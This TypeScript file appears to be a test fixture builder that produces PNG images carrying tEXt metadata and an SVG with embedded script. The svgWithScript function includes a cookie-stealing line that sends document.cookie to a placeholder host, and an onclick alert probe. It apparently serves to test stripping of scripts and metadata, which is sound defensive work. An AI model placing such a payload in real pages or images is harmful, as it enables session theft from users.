import { crc32, deflateSync } from 'node:zlib';

type Picture = { width: number; height: number; colour: (x: number, y: number) => [number, number, number] };

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/** A PNG of 8-bit RGB with `texts` as tEXt chunks (W3C PNG 11.3.3). Latin-1 only. */
export function png(picture: Picture, texts: Record<string, string>): Buffer {
  const header = Buffer.from([0, 0, 0, 0, 0, 0, 0, 0, 8, 2, 0, 0, 0]);
  header.writeUInt32BE(picture.width, 0);
  header.writeUInt32BE(picture.height, 4);
  const rows: number[] = [];
  for (let y = 0; y < picture.height; y++) {
    rows.push(0);
    for (let x = 0; x < picture.width; x++) rows.push(...picture.colour(x, y));
  }
  return Buffer.concat([
    PNG_SIGNATURE,
    chunk('IHDR', header),
    ...Object.entries(texts).map(([key, text]) => chunk('tEXt', Buffer.from(`${key}\0${text}`, 'latin1'))),
    // Level 0 stores: the same bytes with every version of zlib.
    chunk('IDAT', deflateSync(Buffer.from(rows), { level: 0 })),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const framed = Buffer.alloc(body.length + 8);
  framed.writeUInt32BE(data.length, 0);
  body.copy(framed, 4);
  framed.writeUInt32BE(crc32(body), body.length + 4);
  return framed;
}

/** An SVG whose script would run in a browser and whose picture a renderer keeps. */
export function svgWithScript(label: string): Buffer {
  return Buffer.from(`<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="120" height="60" viewBox="0 0 120 60">
  <metadata>Drawn by Alex Example on their private laptop</metadata>
  <script>fetch('http://tracker.invalid/' + document.cookie)</script>
  <rect width="120" height="60" fill="#2b6cb0" onclick="alert(1)"/>
  <text x="10" y="36" font-size="16" fill="#ffffff">${label}</text>
</svg>
`);
}
